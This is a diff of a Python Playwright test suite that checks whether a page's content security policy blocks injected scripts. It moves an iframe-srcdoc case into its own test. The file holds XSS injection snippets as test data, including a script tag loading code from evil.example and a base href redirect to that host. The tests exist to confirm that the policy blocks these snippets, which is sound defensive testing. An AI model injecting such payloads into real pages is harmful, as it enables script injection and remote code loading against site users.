@@ -62,8 +62,6 @@ SMUGGLED = {
     "handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = 1\">')",
     "link": "document.body.insertAdjacentHTML('beforeend', '<a id=bad href=\"javascript:window.ran = 1\">x</a>');"
     "document.getElementById('bad').click()",
-    "frame": "const f = document.createElement('iframe'); f.srcdoc = '<script>parent.ran = 1</script>';"
-    "document.body.append(f)",
     "elsewhere": "const s = document.createElement('script'); s.src = 'https://evil.example/x.js';"
     "document.body.append(s)",
     "base": "document.head.insertAdjacentHTML('beforeend', '<base href=\"https://evil.example/\">')",
@@ -90,6 +88,15 @@ def test_what_is_smuggled_in_does_not_run(attacked: Page, script: str) -> None:
     attacked.wait_for_function("violations.length > 0")
     assert attacked.evaluate("window.ran") is None
     assert attacked.evaluate("document.baseURI").startswith("http://127.0.0.1")
+
+
+def test_a_frame_of_its_own_writing_runs_nothing_either(attacked: Page) -> None:
+    """It inherits the page's policy, and tells of what it refused in its own document."""
+    frame = "Object.assign(document.createElement('iframe'), {srcdoc: '<b>x</b><script>parent.ran = 1</script>'})"
+    attacked.evaluate(f"document.body.append({frame})")
+    attacked.frames[1].wait_for_selector("b", state="attached")
+    attacked.frames[1].wait_for_load_state()
+    assert attacked.evaluate("window.ran") is None
 
 
 def test_nothing_is_evaluated_and_nothing_sent_elsewhere(attacked: Page) -> None:
